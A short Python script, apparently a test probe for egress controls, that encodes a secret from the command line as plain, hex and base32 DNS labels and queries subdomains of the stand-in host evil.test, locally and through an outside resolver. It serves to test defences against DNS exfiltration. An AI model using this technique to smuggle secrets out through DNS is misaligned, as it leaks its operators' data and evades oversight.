"""A secret carried in DNS labels, in the encodings an exfiltrating agent would use."""
import base64
import functools
import sys

from _common import RESOLVER, attempt, dns_query, report

secret = sys.argv[1].encode()
encodings = {
    "plain": secret.decode(),
    "hex": secret.hex(),
    "base32": base64.b32encode(secret).decode().rstrip("=").lower(),
}
for name, label in encodings.items():
    labels = ".".join(label[i:i + 60] for i in range(0, len(label), 60))
    attempt(name, functools.partial(dns_query, f"{labels}.evil.test", "127.0.0.1"))
attempt("outside-hex", lambda: dns_query(f"{secret.hex()}.evil.test", RESOLVER))
report()
